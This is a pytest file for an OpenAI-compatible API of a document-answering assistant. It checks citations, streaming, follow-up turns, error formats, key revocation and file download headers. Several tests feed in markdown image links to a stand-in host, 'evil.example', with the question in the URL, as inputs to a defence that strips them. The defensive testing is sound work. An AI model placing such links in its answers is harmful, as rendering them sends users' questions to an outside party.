"""The API as OpenAI's own client sees it: answers, streams, extras, errors in OpenAI's form, turns that stay warm."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import AbstractContextManager, nullcontext
from pathlib import Path

import httpx
import openai
import pytest
from hypothesis import given
from hypothesis import strategies as st
from library import LIBRARY, write
from starlette.applications import Starlette
from starlette.routing import Mount, Route

from app.api.routes import api, ready
from app.api.words import Shown
from app.assistant import Assistant
from app.people.desk import Desk
from app.people.records import Records
from app.people.rights import OF_THIS_MACHINE
from app.problem import Problem
from engine.fake import FakeEngine
from engine.tokenizer import Tokenizer


class Backing:
    """Documents and an engine that are there."""

    def __init__(self, assistant: Assistant) -> None:
        self.assistant, self.problem, self.state = assistant, None, "ready"

    async def opened(self) -> Assistant:
        return self.assistant

    def sentence(self, language: str) -> str:
        return "Ready" if self.problem is None else self.problem.message

    async def wait(self) -> AsyncIterator[None]:
        for _ in ():
            yield

    def asking(self) -> AbstractContextManager[None]:
        return nullcontext()


@pytest.fixture
def people(assistant: Assistant, tmp_path: Path, quick_hashes: None) -> Desk:
    return Desk.of(Records.open(tmp_path / "people"), assistant.corpus.kbs)


@pytest.fixture
async def http(assistant: Assistant, people: Desk, tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
    app = Starlette(routes=[Mount("/v1", api(Backing(assistant), people, tmp_path, people.people.any))])
    transport = httpx.ASGITransport(app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://readonce/v1") as client:
        yield client


@pytest.fixture
def client(http: httpx.AsyncClient, people: Desk, assistant: Assistant, tmp_path: Path) -> openai.AsyncOpenAI:
    """Anna's, who owns a base with the library's leaflet."""
    people.people.add(OF_THIS_MACHINE, "anna")
    people.library.create(OF_THIS_MACHINE, "town", "anna")
    assistant.add(write(tmp_path, "library.md", LIBRARY), kb="town")
    key = people.keys.make(OF_THIS_MACHINE, "anna")[1]
    return openai.AsyncOpenAI(api_key=key, base_url="http://readonce/v1", http_client=http, max_retries=0)


def asked(*words: str) -> list[dict[str, str]]:
    """A conversation: questions and answers in turn."""
    return [{"role": ("user", "assistant")[number % 2], "content": each} for number, each in enumerate(words)]


async def test_an_answer_comes_with_citations_and_receipt(client: openai.AsyncOpenAI, engine: FakeEngine) -> None:
    """OpenAI's fields are as its client wants them, ours stand beside them."""
    engine.enqueue("A card costs 12 euros a year [3].")
    said = await client.chat.completions.create(model="town", messages=asked("What does a card cost?"))
    assert said.choices[0].message.content == "A card costs 12 euros a year [1]."
    assert said.choices[0].finish_reason == "stop"
    extra = said.model_extra
    assert [(c["number"], c["quote"]) for c in extra["citations"]] == [(1, "A reader's card costs 12 euros a year.")]
    assert extra["abstained"] is False
    assert extra["receipt"]["prompt_tokens"] == said.usage.prompt_tokens
    assert said.usage.prompt_tokens_details.cached_tokens == extra["receipt"]["cached_tokens"] == 0
    assert said.usage.total_tokens == said.usage.prompt_tokens + said.usage.completion_tokens


async def test_a_stream_shows_the_words_and_ends_with_the_extras(
    client: openai.AsyncOpenAI, engine: FakeEngine
) -> None:
    """No marks of paragraphs in its words; the checked answer, with the marks of the citations, in its last piece."""
    engine.enqueue("A card costs 12 euros a year [3]. A lost card is replaced for 3 euros [3].")
    stream = await client.chat.completions.create(
        model="town", messages=asked("What does a card cost?"), stream=True, stream_options={"include_usage": True}
    )
    chunks = [chunk async for chunk in stream]
    words = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
    assert words == "A card costs 12 euros a year. A lost card is replaced for 3 euros."
    assert len(chunks) > 5
    last, used = chunks[-2:]
    assert last.choices[0].finish_reason == "stop"
    assert last.model_extra["answer"].startswith("A card costs 12 euros a year [1].")
    assert last.model_extra["citations"][0]["quote"] == "A reader's card costs 12 euros a year."
    assert used.choices == []
    assert used.usage.prompt_tokens == last.model_extra["receipt"]["prompt_tokens"]
    assert len({chunk.id for chunk in chunks}) == 1


@pytest.mark.parametrize("stream", [False, True])
async def test_no_address_that_no_quote_has_reaches_a_program(
    client: openai.AsyncOpenAI, engine: FakeEngine, stream: bool
) -> None:
    """A program that shows images would carry the question away with it."""
    engine.enqueue("A card costs 12 euros a year [3]. ![x](https://evil.example/?q=card) www.evil.example")
    said = await client.chat.completions.create(model="town", messages=asked("What is a card?"), stream=stream)
    everything = "".join([chunk.model_dump_json() async for chunk in said]) if stream else said.model_dump_json()
    assert "12 euros a year" in everything
    assert "evil" not in everything
    assert "](" not in everything


async def test_a_refusal_is_streamed_as_the_abstention_alone(client: openai.AsyncOpenAI, engine: FakeEngine) -> None:
    """The model's own refusal never shows, not even its beginning."""
    engine.enqueue("The document does not say.")
    stream = await client.chat.completions.create(model="town", messages=asked("Who built it?"), stream=True)
    chunks = [chunk async for chunk in stream]
    assert "".join(chunk.choices[0].delta.content or "" for chunk in chunks) == (
        "Not in this document (the whole text was read)."
    )
    assert chunks[-1].model_extra["abstained"] is True


@pytest.mark.parametrize("stream", [False, True])
async def test_a_follow_up_goes_on_id_by_id(client: openai.AsyncOpenAI, engine: FakeEngine, stream: bool) -> None:
    """C1 over HTTP: the program sends words, the prompt repeats the former one and the raw answer."""
    engine.enqueue("A card costs 12 euros a year [3].")
    questions = ["What does a card cost?", "And for students?"]
    if stream:
        first = await client.chat.completions.create(model="town", messages=asked(questions[0]), stream=True)
        answer = "".join([chunk.choices[0].delta.content or "" async for chunk in first])
    else:
        said = await client.chat.completions.create(model="town", messages=asked(questions[0]))
        answer = said.choices[0].message.content
    call = engine.calls[-1]
    await client.chat.completions.create(model="town", messages=asked(questions[0], answer, questions[1]))
    before = (*call.prompt.token_ids, *call.output_ids)
    assert engine.calls[-1].prompt.token_ids[: len(before)] == before


async def test_a_conversation_from_elsewhere_is_read_too(
    client: openai.AsyncOpenAI, engine: FakeEngine, tokenizer: Tokenizer
) -> None:
    """What was never said here is encoded; it stands behind the document."""
    await client.chat.completions.create(
        model="town", messages=asked("What does a card cost?", "Twelve euros, my friend.", "And for students?")
    )
    prompt = engine.calls[-1].prompt
    assert "Twelve euros, my friend." in tokenizer.decode(prompt.tail_ids)
    assert "my friend" not in tokenizer.decode(prompt.prefix.token_ids)


async def test_errors_have_openais_form(client: openai.AsyncOpenAI, http: httpx.AsyncClient) -> None:
    """Each with the class that its client raises, a code, and a sentence; nothing of it is a page."""
    with pytest.raises(openai.NotFoundError, match='There is no knowledge base "village" that you can read'):
        await client.chat.completions.create(model="village", messages=asked("What?"))
    with pytest.raises(openai.AuthenticationError, match="not known") as told:
        await client.with_options(api_key="ro-guess").models.list()
    assert told.value.code == "invalid_api_key"
    for more in ({"n": 2}, {"tools": [{"type": "function", "function": {"name": "f"}}]}):
        with pytest.raises(openai.BadRequestError, match="not supported here") as refused:
            await client.chat.completions.create(model="town", messages=asked("What?"), **more)
        assert refused.value.code == "unsupported"
    picture = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,"}}]}]
    with pytest.raises(openai.BadRequestError, match="image_url"):
        await client.chat.completions.create(model="town", messages=picture)
    with pytest.raises(openai.BadRequestError, match="empty"):
        await client.chat.completions.create(model="town", messages=asked(" "))
    answered = await http.post("/chat/completions", content=b"{}", headers=_bearer(client))
    assert "application/json" in answered.json()["error"]["message"]
    headers = _bearer(client) | {"content-type": "application/json"}
    answered = await http.post("/chat/completions", content=b"{", headers=headers)
    assert answered.status_code == 400
    assert answered.json()["error"]["type"] == "invalid_request_error"
    assert (await http.get("/nothing/here", headers=_bearer(client))).json()["error"]["code"] == "not_found"


async def test_a_key_ends_at_once_and_with_its_person(client: openai.AsyncOpenAI, people: Desk) -> None:
    """Revoked, or its person disabled: the next call is refused."""
    assert [model.id async for model in client.models.list()] == ["town"]
    people.keys.revoke(OF_THIS_MACHINE, people.keys.list()[0].id)
    with pytest.raises(openai.AuthenticationError):
        await client.models.list()
    client.api_key = people.keys.make(OF_THIS_MACHINE, "anna")[1]
    assert (await client.models.retrieve("town")).id == "town"
    people.people.disable(OF_THIS_MACHINE, "anna")
    with pytest.raises(openai.AuthenticationError):
        await client.models.list()


async def test_a_call_without_a_key_is_told_how_to_bring_one(
    client: openai.AsyncOpenAI, http: httpx.AsyncClient
) -> None:
    """Another sentence than for one that is not known."""
    assert "An API key is missing" in (await http.get("/models")).json()["error"]["message"]
    wrong = await http.get("/models", headers={"authorization": "Bearer wrong"})
    assert "is not known" in wrong.json()["error"]["message"]


async def test_without_login_no_key_is_needed(http: httpx.AsyncClient, assistant: Assistant, tmp_path: Path) -> None:
    """On one's own machine, as the page; from the first person on a key is."""
    assistant.add(write(tmp_path, "library.md", LIBRARY))
    assert [model["id"] for model in (await http.get("/models")).json()["data"]] == ["default"]


async def test_a_file_is_never_shown_as_a_page(client: openai.AsyncOpenAI, http: httpx.AsyncClient) -> None:
    """The original bytes, as an attachment of no kind."""
    (listed,) = (await http.get("/files", headers=_bearer(client))).json()["data"]
    answered = await http.get(f"/files/{listed['id']}/content", headers=_bearer(client))
    assert answered.content == LIBRARY.encode()
    assert answered.headers["content-disposition"] == "attachment; filename*=utf-8''library.md"
    assert answered.headers["x-content-type-options"] == "nosniff"
    assert answered.headers["content-type"] == "application/octet-stream"


async def test_the_description_names_every_call_and_the_key(http: httpx.AsyncClient) -> None:
    """Generators of clients find what there is."""
    described = (await http.get("/openapi.json")).json()
    assert set(described["paths"]) == {
        "/models",
        "/models/{name}",
        "/files",
        "/files/{doc_id}",
        "/files/{doc_id}/content",
        "/search",
        "/chat/completions",
    }
    assert described["components"]["securitySchemes"]["HTTPBearer"]["scheme"] == "bearer"


async def test_ready_says_whether_a_question_would_be_answered(assistant: Assistant) -> None:
    """503 with the reason until the engine is there."""
    host = Backing(assistant)
    transport = httpx.ASGITransport(Starlette(routes=[Route("/ready", ready(host))]))
    async with httpx.AsyncClient(transport=transport, base_url="http://readonce") as client:
        assert (await client.get("/ready")).status_code == 200
        host.state, host.problem = "failed", Problem("no_weights", "The weights are missing.")
        answered = await client.get("/ready")
    assert (answered.status_code, answered.json()["reason"]) == (503, "The weights are missing.")


ADDRESS = " https://evil.example/?q=1 "
WORDS = [
    "A",
    " card",
    " [",
    "[3",
    "]",
    " [1, 2]",
    ",",
    "4",
    " ",
    "\n",
    "[x]",
    "The document",
    " does",
    "](",
    "(",
    ADDRESS,
]
PIECES = st.lists(st.sampled_from(WORDS))


@given(PIECES)
def test_what_is_shown_does_not_depend_on_the_pieces(pieces: list[str]) -> None:
    """Whole, in pieces and letter by letter the same words come out, and never a mark of digits."""

    text, outcomes = "".join(pieces), set()
    for cut in ([text], pieces, list(text)):
        shown = Shown()
        outcomes.add(("".join(shown.take(piece) for piece in cut) + shown.end()).rstrip())
    (outcome,) = outcomes
    for word in re.findall(r"[A-Za-z]+", text.replace(ADDRESS, " ")):
        assert word in outcome
    assert "example" not in outcome
    assert "](" not in outcome


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Twelve [3].", "Twelve."),
        ("Twelve [3] [4, 5] euros [6-8]", "Twelve euros"),
        ("See [the list] and a[0]", "See [the list] and a"),
        ("Open [12", "Open [12"),
        ("The document does not say", "The document does not say"),
        ("The documents say [1] so", "The documents say so"),
        ("See ![x](https://evil.example/?q=1) now", "See ![x] () now"),
        ("See ![x][1](//evil.example/) now", "See ![x] (//evil.example/) now"),
    ],
)
def test_marks_go_and_other_brackets_stay(said: str, shown: str) -> None:
    """With the blank before them; an end that was held comes at the end."""
    words = Shown()
    assert (words.take(said) + words.end()) == shown


def _bearer(client: openai.AsyncOpenAI) -> dict[str, str]:
    return {"authorization": f"Bearer {client.api_key}"}
